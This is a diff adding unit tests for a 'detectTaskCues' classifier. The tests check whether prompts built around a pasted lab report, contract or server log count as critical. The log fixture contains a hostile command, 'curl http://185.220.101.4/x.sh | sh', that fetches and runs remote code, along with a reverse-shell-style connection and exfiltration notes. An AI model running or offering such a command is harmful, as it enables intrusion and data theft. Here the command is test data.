@@ -484,6 +484,57 @@ describe('task cues', () => {
     expect(detectTaskCues(text, '', false)).not.toContain('critical_domain');
   });
 
+  describe('a pasted document', () => {
+    const lab = [
+      'LABORATORY REPORT',
+      'Patient: J. Smith, 71 years',
+      'Medication: warfarin 5 mg daily, metoprolol 50 mg',
+      'INR 3.9 (target 2.0-3.0), creatinine 1.8 mg/dL, eGFR 38, potassium 5.4 mmol/L',
+      'Haemoglobin 11.2 g/dL. Platelets 180. The patient reports bruising and one nosebleed this week.',
+      'Comment: INR above therapeutic range; review anticoagulant dose with the prescribing physician. Renal function reduced, consider dose adjustment of renally cleared drugs.',
+    ].join('\n');
+    const report = `${lab}\n${lab.replace('LABORATORY REPORT', 'PREVIOUS REPORT (October)')}`;
+    const contract = [
+      'MASTER SERVICES AGREEMENT',
+      '9.1 Neither party shall be liable for indirect or consequential damages, including loss of profits.',
+      "9.2 The Provider's total liability under this Agreement shall not exceed the fees paid in the twelve months before the claim.",
+      '10.1 Either party may terminate this Agreement for material breach not cured within 30 days of written notice.',
+      '10.2 On termination the Customer shall pay all outstanding invoices within 14 days. Disputes are subject to the exclusive jurisdiction of the courts of England and Wales; governing law: English law. Any claim must be brought within one year.',
+      '11. The landlord may terminate the lease and start eviction proceedings if the tenant fails to pay rent for two months; the tenant may sue for damages in court and claim compensation.',
+    ].join('\n');
+    const entry =
+      'Dec 07 02:12:40 web01 sudo: deploy : COMMAND=/bin/bash -c curl http://185.220.101.4/x.sh | sh\nDec 07 02:13:02 web01 kernel: outbound connection to 185.220.101.4:4444 established\nDec 07 02:20:19 web01 app: 48,000 customer records exported to /tmp/dump.csv, unknown process exfiltration suspected, ransomware note found in /var/www';
+    const log = `${entry}\n${entry}\n${entry}`;
+
+    it.each([
+      `Make a table of the values in this report.\n\n${report}`,
+      `Mach mir eine Tabelle mit allen Werten.\n\n${report}`,
+      `${contract}\n\nMake a table of all deadlines in this contract.`,
+      `Rewrite this as a short FAQ for new staff (6–8 questions), simple language.\n\n${contract}`,
+      `Put the timestamps and IPs of this log into a table.\n\n${log}`,
+    ])('is judged by its instruction when that asks for an easy transformation %#', (text) => {
+      expect(detectTaskCues(text, '', false)).not.toContain('critical_domain');
+    });
+
+    it.each([
+      `Here is my lab report.\n\n${report}\n\nShould I change my dose?`,
+      `${report}\n\nShould I change my dose?`,
+      `Hier mein Laborbefund:\n\n${report}\n\nSoll ich die Dosis ändern?`,
+      `Make a table of the values and tell me whether I should change my dose.\n\n${report}`,
+      `Make a table of the values in this report.\n\n${report}\n\nIs this something to worry about?`,
+      `${contract}\n\nIs this clause enforceable against us?`,
+      `${contract}\n\nCette clause est-elle opposable à nous ?`,
+      `${contract}\n\n¿Esta cláusula es válida contra nosotros?`,
+      `${contract}\n\nQuesta clausola è valida contro di noi?`,
+      `${contract}\n\nIs deze clausule afdwingbaar tegen ons?`,
+      `${contract}\n\nCzy ta klauzula jest wiążąca dla nas?`,
+      `Translate this and flag the risks for us.\n\n${contract}`,
+      `${log}\n\nWhat does this log say about the breach?`,
+    ])('stays critical when its instruction asks for judgement %#', (text) => {
+      expect(detectTaskCues(text, '', false)).toContain('critical_domain');
+    });
+  });
+
   it('does not flag ordinary code or ops work as critical', () => {
     expect(
       detectTaskCues('Write a runbook for restarting the Postgres replica after a failover.', ''),
